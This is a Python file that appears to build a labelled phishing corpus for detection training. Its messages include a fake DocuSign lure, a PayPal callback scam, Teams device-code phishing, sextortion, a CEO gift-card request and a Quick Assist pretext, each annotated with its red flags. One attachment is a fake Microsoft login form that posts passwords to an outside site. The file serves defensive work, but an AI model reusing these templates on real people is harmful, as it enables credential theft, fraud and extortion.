"""Attack messages, English (09-16)."""
import mime
import htm
import infra as I
import services as SV
from company import S, BTC_ADDR
from kit import plain, html, alt, mixed, att, att_outlook, dedent
from msg import M

F = "attack"


def docusign_html(sender, sender_mail, message, link, code, doc):
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"></head>\n'
            '<body style="margin:0;padding:0;background:#eaeaea">\n'
            '<table width="100%%" style="background:#eaeaea" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">\n'
            '<table width="640" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif">\n'
            '<tr><td style="padding:10px 24px"><img src="https://eu.docusign.net/Member/Images/email/docusign-logo.png" alt="Docusign" width="116"></td></tr>\n'
            '<tr><td style="background:#1e4ca1;padding:28px 24px;color:#fff;text-align:center;font-size:16px">\n'
            '%s sent you a document to review and sign.<br><br>\n'
            '<a href="%s" style="display:inline-block;background:#ffc820;color:#333;font-size:15px;font-weight:bold;'
            'padding:10px 24px;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></td></tr>\n'
            '<tr><td style="padding:24px;font-size:15px;color:#333"><b>%s</b><br>'
            '<a href="mailto:%s" style="color:#2463d1">%s</a><br><br>%s</td></tr>\n'
            '<tr><td style="padding:24px;background:#eaeaea;font-size:12px;color:#666"><b>Do Not Share This Email</b><br>'
            'This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>'
            '<b>Alternate Signing Method</b><br>Visit Docusign.com, click \'Access Documents\', and enter the security code:<br>%s<br><br>'
            '<b>About Docusign</b><br>Sign documents electronically in just minutes. It\'s safe, secure, and legally binding. '
            'Whether you\'re in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional '
            'trusted solution for Digital Transaction Management&trade;.<br><br>'
            '<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the '
            'document, please reach out to the sender by emailing them directly.<br><br>'
            'This message was sent to you by %s who is using the Docusign Electronic Signature Service. '
            'If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>\n'
            '</table></td></tr></table></body></html>\n' % (sender, link, sender, sender_mail, sender_mail,
                                                           message.replace("\n", "<br>"), code, sender))


def docusign_text(sender, sender_mail, message, link, code, doc):
    return dedent("""
    %s sent you a document to review and sign.

    REVIEW DOCUMENT
    %s

    %s
    %s

    %s

    Do Not Share This Email
    This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

    Alternate Signing Method
    Visit Docusign.com, click 'Access Documents', and enter the security code:
    %s

    About Docusign
    Sign documents electronically in just minutes. It's safe, secure, and legally binding.

    Questions about the Document?
    If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

    This message was sent to you by %s who is using the Docusign Electronic Signature Service.
    """) % (sender, link, sender, sender_mail, message, code, sender)


def a09():
    link = ("https://u48213957.ct.sendgrid.net/ls/click?upn=u001.3Xq7Bf0l9cRk2vN1m5yTjQ8hZpWqL0sEa4-2FdK7oUyR1gN9vC3xHbT6"
            "eYf2wP5sJmD8qA0zLr4tG1kVnXc7iO3uSyB9hE6fM2pT5lQ8wZ1aR0dK4jC7vN3xFb6gY9-2BsH2mW5pL8qT1")
    msgtxt = "Oliver, please review and sign the renewed service agreement for the Manchester and Leeds sites (2027-2029).\nIt needs to be back with us by Friday so the January maintenance slots can be confirmed.\nThanks, Gareth"
    code = "A1F93C2E7B044D6A8E5C1D7F0B2A9E34"
    sender, smail, doc = "Gareth Hughes", "gareth.hughes@sonora-cinema.co.uk", "Service Agreement 2027-2029"
    return M(folder=F, num=9, lang="en", slug="fake-docusign-service-agreement",
             profile=I.SendGrid(), when=("uk", 2026, 11, 3, 14, 21, 40),
             frm=("Gareth Hughes via Docusign", "dse@docusign-eumail.net"), to=[S("uk_mgr")],
             reply_to=("Gareth Hughes", "gareth.hughes@sonora-cinema.co.uk"),
             env_from="bounces+48213957-7f1c-oliver.bennett=example.com@em9921.docusign-eumail.net",
             subject="Complete with Docusign: Sonora Cinema Systems - Service Agreement 2027-2029.pdf",
             body=alt(docusign_text(sender, smail, msgtxt, link, code, doc),
                      docusign_html(sender, smail, msgtxt, link, code, doc), "utf-8", "quoted-printable"),
             desc="Fake DocuSign envelope in the name of the real projection-service contractor; 'REVIEW DOCUMENT' goes "
                  "through SendGrid click tracking to a credential-harvesting page",
             why="Sender domain docusign-eumail.net (not docusign.net) sent through SendGrid; the button does not lead to "
                 "docusign.net but to a SendGrid redirect (destination hidden); Reply-To set to the real contact to borrow "
                 "trust; template copied from DocuSign. Compare the genuine envelope in business/09.")


def a10():
    inv = "INV2-8KQ4-7TWD-M3XA-9PLC"
    note = ("Your Norton 360 Total Protection (5 devices) annual plan has been renewed and GBP 389.99 will be charged "
            "to your account within 24 hours. If you did not authorise this renewal or wish to cancel and receive a full "
            "refund, call our billing support team immediately on +44 20 7946 0418 (Mon-Sun 8am-10pm). Please do not pay "
            "this invoice online.")
    txt = dedent("""
    Norton Billing Support sent you an invoice

    Invoice details
    Amount requested: £389.99 GBP

    Note from seller
    %s

    Invoice number: %s
    Due date: 4 Nov 2026

    View and Pay Invoice

    Don't recognise this invoice?
    Before paying, make sure you recognise this invoice. If you don't, report it. Learn more about common security threats and how to spot them. For example, PayPal would never use an invoice or a money request to ask you for your account credentials.

    Help & Contact | Security | Apps

    PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.

    Copyright © 1999-2026 PayPal. All rights reserved.
    PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg
    """) % (note, inv)
    h = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n'
         '<body style="margin:0;background:#f5f7fa;font-family:Helvetica Neue,Arial,sans-serif;color:#2c2e2f">\n'
         '<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff"><tr><td style="padding:24px 32px">\n'
         '<img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal">\n'
         '<h1 style="font-size:24px;font-weight:400">Norton Billing Support sent you an invoice</h1>\n'
         '<p style="font-size:32px;margin:8px 0">£389.99 <span style="font-size:14px">GBP</span></p>\n'
         '<p style="font-size:14px"><b>Note from seller</b><br>%s</p>\n'
         '<p style="font-size:14px">Invoice number: %s<br>Due date: 4 Nov 2026</p>\n'
         '<p><a href="https://www.paypal.com/invoice/p/#%s" style="background:#0070e0;color:#fff;padding:12px 28px;border-radius:24px;'
         'text-decoration:none;font-weight:bold">View and Pay Invoice</a></p>\n'
         '<p style="font-size:13px"><b>Don\'t recognise this invoice?</b><br>Before paying, make sure you recognise this invoice. If you '
         'don\'t, report it. For example, PayPal would never use an invoice or a money request to ask you for your account credentials.</p>\n'
         '<p style="font-size:11px;color:#687173">Copyright © 1999-2026 PayPal. All rights reserved.<br>PayPal (Europe) S.à r.l. et Cie, '
         'S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg</p>\n'
         '</td></tr></table></body></html>\n') % (note, inv, inv.replace("-", ""))
    return M(folder=F, num=10, lang="en", slug="callback-toad-paypal-invoice-abuse",
             profile=SV.PayPal(), when=("uk", 2026, 10, 28, 11, 7, 19),
             frm=("service@paypal.co.uk", "service@paypal.co.uk"), to=[S("uk_acc")],
             subject="Invoice from Norton Billing Support (%s)" % inv,
             body=alt(txt, h, "UTF-8", "quoted-printable", quote_charset=False),
             desc="Callback phishing (TOAD) delivered through PayPal's genuine invoicing service: a 'Norton renewal' "
                  "invoice whose seller note tells the victim to phone a 'billing support' number",
             why="Legitimate PayPal infrastructure abused by a scammer's merchant account; no relationship with the "
                 "seller; the real lure is the phone number in the free-text note (the call leads to remote-access "
                 "software and bank fraud); 'do not pay online, call us' is the tell.")


def a11():
    code = "GQ7TDK2PE"
    ics = dedent("""
    BEGIN:VCALENDAR
    METHOD:REQUEST
    PRODID:Microsoft Exchange Server 2010
    VERSION:2.0
    BEGIN:VTIMEZONE
    TZID:GMT Standard Time
    BEGIN:STANDARD
    DTSTART:16010101T020000
    TZOFFSETFROM:+0100
    TZOFFSETTO:+0000
    RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10
    END:STANDARD
    BEGIN:DAYLIGHT
    DTSTART:16010101T010000
    TZOFFSETFROM:+0000
    TZOFFSETTO:+0100
    RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3
    END:DAYLIGHT
    END:VTIMEZONE
    BEGIN:VEVENT
    ORGANIZER;CN=Gareth Hughes:mailto:gareth.hughes@sonora-cinema.co.uk
    ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Oliver Bennett:mailto:oliver.bennett@example.com
    DESCRIPTION;LANGUAGE=en-GB:Hi Oliver\\, ahead of the Q4 service review: our Teams rooms now use device verification. To join\\, open https://microsoft.com/devicelogin and enter the meeting code %s\\, then sign in with your work account. The code is valid for 15 minutes from when you open the page.\\n
    UID:040000008200E00074C5B7101A82E008000000003C1F2D4E8B5BDC01000000000000000010000000A7C3E2F1D0B94E5A8C7D6E5F4A3B2C1D
    SUMMARY;LANGUAGE=en-GB:Q4 service review - UK sites (Sonora / Example Group)
    DTSTART;TZID=GMT Standard Time:20261112T100000
    DTEND;TZID=GMT Standard Time:20261112T104500
    CLASS:PUBLIC
    PRIORITY:5
    DTSTAMP:20261111T164812Z
    TRANSP:OPAQUE
    STATUS:CONFIRMED
    SEQUENCE:0
    LOCATION;LANGUAGE=en-GB:Microsoft Teams Meeting
    BEGIN:VALARM
    DESCRIPTION:REMINDER
    TRIGGER;RELATED=START:-PT15M
    ACTION:DISPLAY
    END:VALARM
    END:VEVENT
    END:VCALENDAR
    """) % code
    ics = ics.replace("\n", "\r\n")
    txt = dedent("""
    Hi Oliver,

    Ahead of Thursday's Q4 service review: since our IT moved us to the new Teams security policy, external guests have to verify their device before joining.

    1. Open https://microsoft.com/devicelogin
    2. Enter the meeting code: %s
    3. Sign in with your Example Group work account

    The code is only valid for 15 minutes, so please do it right before the call - or just reply when you're ready and I'll send a fresh one.

    Kind regards,
    Gareth

    ________________________________________________________________________________
    Microsoft Teams meeting
    Join: verify your device first (see above)
    ________________________________________________________________________________
    """) % code
    h = htm.outlook(txt, "EN-GB")
    h = h.replace("https://microsoft.com/devicelogin", '<a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a>')
    cal = mime.text(ics, "calendar", "utf-8", "base64")
    cal.params.append("method=REQUEST")
    body = mime.multi("alternative", [plain(txt, "utf-8", "quoted-printable"), html(h, "utf-8", "quoted-printable"), cal])
    return M(folder=F, num=11, lang="en", slug="device-code-phishing-teams-invite",
             profile=I.Outlook365(srv="LO2P265MB5873", srv2="CWLP265MB1934", pod="GBRP265", lang="en-GB",
                                  eop="mail-lo2gbr01on2105.outbound.protection.outlook.com", eop_ip="40.107.10.105",
                                  org="sonora-cinema.co.uk"),
             when=("uk", 2026, 11, 11, 16, 48, 12),
             frm=("Gareth Hughes", "gareth.hughes@sonora-cinema.co.uk"), to=[S("uk_mgr")],
             subject="Q4 service review - UK sites (Sonora / Example Group)",
             body=body,
             desc="Device-code phishing: Teams meeting request from the contractor's (compromised) genuine mailbox asking "
                  "to enter a code at microsoft.com/devicelogin and sign in",
             why="The link is Microsoft's real device-login page, but entering an attacker-generated code grants the attacker "
                 "OAuth tokens for the victim's account (Storm-2372-style). Teams never requires guests to do this; the "
                 "'code valid 15 minutes, reply for a fresh one' is the tell. Compare genuine invite business/11.")


def a12():
    fake = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Remittance Advice - Secure Document</title>\n'
            '<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.card{width:380px;margin:70px auto;'
            'background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:7px 0;border:0;'
            'border-bottom:1px solid #666;font-size:15px;margin:10px 0 18px}button{background:#0067b8;color:#fff;border:0;'
            'padding:8px 34px;float:right;font-size:15px}.doc{font-size:13px;color:#444;background:#f7f7f7;padding:10px;'
            'margin-bottom:16px}</style></head>\n<body><div class="card">\n'
            '<div style="font-size:20px;font-weight:600;margin-bottom:8px">Microsoft</div>\n'
            '<div class="doc">&#128196; Remittance_NSA-48812.pdf (214 KB)<br>Shared with priya.sharma@example.com</div>\n'
            '<div style="font-size:22px;font-weight:600">Sign in to view document</div>\n'
            '<form method="post" action="https://kendall-joinery.co.uk/wp-content/upgrade/rem/verify.php">\n'
            '<input type="email" name="login" value="priya.sharma@example.com">\n'
            '<input type="password" name="passwd" placeholder="Password">\n'
            '<button type="submit">Sign in</button></form>\n'
            '<div style="clear:both;font-size:12px;color:#666;padding-top:20px">Your session has expired. Verify your identity '
            'to access this protected file.</div>\n</div></body></html>\n')
    txt = dedent("""
    Dear Priya,

    Please find attached our remittance advice for payment run 30/10/2026.

    Payment reference: NSA-48812
    Amount: GBP 18,460.00
    Invoices: EGUK-2026-0912, EGUK-2026-0937

    The document is protected - open the attachment in your browser and confirm with your email login to view it.

    Kind regards,
    Accounts Payable
    Northern Screen Advertising Ltd
    """)
    return M(folder=F, num=12, lang="en", slug="html-attachment-remittance-m365-login",
             profile=I.Exim(server="uk1012.fasthosting-uk.net", server_ip="185.151.28.77", zone="uk",
                            client_ip="41.216.188.54", host="kendall-joinery.co.uk", client_helo="[10.0.2.15]"),
             when=("uk", 2026, 10, 30, 9, 55, 37),
             frm=("Northern Screen Advertising - Accounts", "office@kendall-joinery.co.uk"), to=[S("uk_acc")],
             subject="Remittance Advice - Payment Ref NSA-48812",
             body=mixed(plain(txt, "us-ascii", "7bit", hardwrap=True),
                        att(fake.encode("utf-8"), "text/html", "Remittance_NSA-48812.html")),
             desc="HTML-attachment credential phishing: 'remittance advice' from the advertising partner's name; the HTML "
                  "file renders a Microsoft sign-in page pre-filled with the victim's address, posting to a compromised site",
             why="Sent from a compromised joinery website's mailbox (cPanel/Exim) with the partner's display name; real "
                 "remittances come as PDF from northernscreen.co.uk (business/12); a remittance never needs a password; "
                 "the form posts credentials to kendall-joinery.co.uk. No script in the attachment.")


def a13():
    link = "https://find-and-update.companieshouse-filing.uk/company/12873461/confirmation-statement?ref=CS01-OVERDUE"
    txt = dedent("""
    Companies House

    EXAMPLE GROUP UK LTD
    Company number: 12873461

    Your confirmation statement is overdue

    Our records show that the confirmation statement for EXAMPLE GROUP UK LTD, with a made-up date of 14 October 2026, has not been delivered.

    It is a criminal offence not to deliver a confirmation statement. If the statement is not filed within 7 days, the registrar may start action to strike the company off the register and close it down.

    You can file the statement and pay the £50 fee online:
    %s

    You will need the company authentication code. If you do not have it, you can request a new one during the process after verifying your identity with GOV.UK One Login.

    Companies House
    Crown Way, Cardiff, CF14 3UZ
    """) % link
    h = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;margin:0">\n'
         '<div style="background:#0b0c0c;color:#fff;padding:12px 20px;font-size:22px;font-weight:bold">GOV.UK</div>\n'
         '<div style="padding:20px;max-width:580px">\n'
         '<p style="font-size:14px;color:#505a5f">Companies House</p>\n'
         '<p><b>EXAMPLE GROUP UK LTD</b><br>Company number: 12873461</p>\n'
         '<h2 style="font-size:24px">Your confirmation statement is overdue</h2>\n'
         '<p>Our records show that the confirmation statement for EXAMPLE GROUP UK LTD, with a made-up date of 14 October 2026, '
         'has not been delivered.</p>\n'
         '<p>It is a criminal offence not to deliver a confirmation statement. If the statement is not filed within 7 days, the '
         'registrar may start action to strike the company off the register and close it down.</p>\n'
         '<p><a href="%s" style="background:#00703c;color:#fff;padding:9px 18px;text-decoration:none;font-weight:bold">'
         'File confirmation statement</a></p>\n'
         '<p>You will need the company authentication code. If you do not have it, you can request a new one during the process '
         'after verifying your identity with GOV.UK One Login.</p>\n'
         '<p style="font-size:14px;color:#505a5f">Companies House<br>Crown Way, Cardiff, CF14 3UZ</p>\n'
         '</div></body></html>\n') % link
    return M(folder=F, num=13, lang="en", slug="companies-house-confirmation-statement-phish",
             profile=I.SES(region="eu-west-1", ipn=112), when=("uk", 2026, 11, 5, 8, 14, 3),
             frm=("Companies House", "no-reply@companieshouse-filing.uk"), to=[S("uk_mgr")],
             env_from="0102019b2f3c4d5e-9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d-000000@eu-west-1.amazonses.com",
             subject="Action required: confirmation statement overdue - EXAMPLE GROUP UK LTD (12873461)",
             body=alt(txt, h, "utf-8", "base64"),
             desc="Regulator phishing: fake Companies House notice 'confirmation statement overdue, strike-off in 7 days' "
                  "linking to a look-alike filing site that harvests the authentication code, One Login and card",
             why="Domain companieshouse-filing.uk is not gov.uk; sent via Amazon SES by a third party; 7-day strike-off "
                 "threat is invented (the real reminder comes from GOV.UK Notify with a 14-day window, business/13); asks "
                 "for the company authentication code, which allows hijacking company filings.")


def a14():
    amount = "USD 1,450"
    txt = dedent("""
    Hello!

    I have to share bad news with you.
    Approximately a few months ago I have gained access to your devices, which you use for internet browsing.
    After that, I have started tracking your internet activities.

    Here is the sequence of events:
    Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase such thing online). As you can see, I sent this message from your own account.
    I have easily managed to log in to your email account: %s.

    One week later, I have already installed a Trojan virus on Operating Systems of all the devices that you use to access your email.
    It was not hard at all (since you were following the links from your inbox emails).

    I have collected your contacts, your work files and recordings from your camera. I can send them to all your colleagues, friends and family with a single click.

    I think %s is a fair price for our little secret. Make a Bitcoin payment to my wallet:
    %s

    You have 48 hours from the moment you opened this email. I get a notification when you read it.
    Once I receive the payment, I will delete everything and you will never hear from me again.
    Do not reply to this email, do not go to the police - I will know.
    """) % ("nadine.krueger@examplegroup.eu", amount, BTC_ADDR)
    return M(folder=F, num=14, lang="en", slug="extortion-bitcoin-self-spoofed",
             profile=I.Combo(I.PHPMailer(host="examplegroup.eu", zone="br"),
                             I.Direct(helo="examplegroup.eu", rdns="unknown", ip="177.229.174.61")),
             when=("br", 2026, 11, 21, 22, 41, 18),
             frm=("Nadine Krüger", "nadine.krueger@examplegroup.eu"), to=[S("sales")],
             subject="Your account has been hacked! You need to unlock it.",
             mx_tls=False,
             body=plain(txt, "us-ascii", "7bit", hardwrap=True),
             desc="Extortion (sextortion-style) mail claiming device compromise and demanding USD 1,450 in Bitcoin to a "
                  "valid bech32 address; From forged to the recipient's own address",
             why="Forged own address, sent directly to the MX from a Brazilian dial-up IP with HELO set to our domain and "
                 "no rDNS, no TLS; generic bulk extortion text; Bitcoin demand with 48 h deadline; no real compromise details.")


def a15():
    txt = dedent("""
    Hi Oliver,

    Are you at your desk? I need a quick favour, I'm tied up in meetings at the Cologne office all afternoon and can't take calls.

    I want to surprise some of our key clients in Manchester with a thank-you before the Christmas season. Can you purchase Apple gift cards for me, 8 cards of £200 each? You can get them at Tesco or Boots nearby. I will make sure you are reimbursed today through accounts.

    Once you have them, scratch the back, take a clear picture of each card showing the code and send them to me here. Please keep it between us for now, it's a surprise.

    Thanks,
    Jürgen

    Sent from my iPad
    """)
    return M(folder=F, num=15, lang="en", slug="gift-card-scam-ceo-gmail",
             profile=I.Combo(I.AppleMail(mailer="iPad Mail (23B85)", zone="uk"),
                             I.GmailSMTP(client_ip="2a01:4b00:8e2c:1d00:5d4:a21f:93c0:11b7")),
             when=("uk", 2026, 12, 8, 13, 5, 46),
             frm=("Jürgen Köhler", "jurgen.koehler.ceo@gmail.com"), to=[S("uk_mgr")],
             subject="Quick favour",
             body=plain(txt, "utf-8", "quoted-printable", quote_charset=False),
             desc="Gift-card scam: CEO display name on a Gmail address asks the UK office manager to buy 8 x £200 Apple "
                  "gift cards and send photos of the codes",
             why="CEO impersonation from a free-mail account; urgency, 'can't take calls', secrecy ('surprise'); gift "
                 "cards with codes photographed is the scam's cash-out. The CEO's real Christmas-gift note goes through "
                 "the internal relay and HR (business/15).")


def a16():
    txt = dedent("""
    Hello Priya,

    Our monitoring shows that your mailbox has been receiving an unusually high number of spam and newsletter sign-up messages since this morning. This is a known attack pattern ("email bombing") used to hide fraudulent messages.

    To stop it, our security team needs to apply an updated spam filter profile directly on your laptop. A member of the IT Service Desk will contact you in the next 15 minutes via Microsoft Teams (display name "IT Help Desk | Example Group"). Please:

    - accept the Teams chat request (it will show as external because our service desk runs on a separate security tenant),
    - start Quick Assist when asked (Windows key, type "Quick Assist", choose "Help someone / Get help") and enter the 6-digit code our technician gives you,
    - keep the session open until the technician confirms the update is complete (about 10 minutes).

    Please do not delete the spam messages before the session, we need them for the analysis.

    Thank you for your cooperation.

    IT Service Desk
    Example Group - Information Security
    """)
    h = htm.outlook(txt, "EN-GB")
    return M(folder=F, num=16, lang="en", slug="teams-quick-assist-vishing-pretext",
             profile=I.Outlook365(srv="PA4P190MB1264", srv2="AS4P190MB2031", pod="EURP190", lang="en-US",
                                  eop="mail-am6eur05on2121.outbound.protection.outlook.com", eop_ip="40.107.22.121",
                                  org="egsecuritydesk.onmicrosoft.com"),
             when=("uk", 2026, 11, 24, 10, 38, 2),
             frm=("IT Service Desk", "servicedesk@egsecuritydesk.onmicrosoft.com"), to=[S("uk_acc")],
             subject="Spam attack on your mailbox - Service Desk will contact you via Teams",
             body=alt(txt, h, "utf-8", "quoted-printable"),
             desc="Remote-access vishing pretext: after an email-bombing wave, a fake 'IT Service Desk' on an onmicrosoft.com "
                  "tenant announces an external Teams chat and asks the user to start Quick Assist with the 'technician'",
             why="Sender is a freshly created external M365 tenant, not the company; legitimate IT never asks users to accept "
                 "external Teams chats and start Quick Assist (business/16 says so explicitly); the pattern is the known "
                 "Black Basta/Storm-1811 intrusion path to ransomware.")


MESSAGES = [a09, a10, a11, a12, a13, a14, a15, a16]
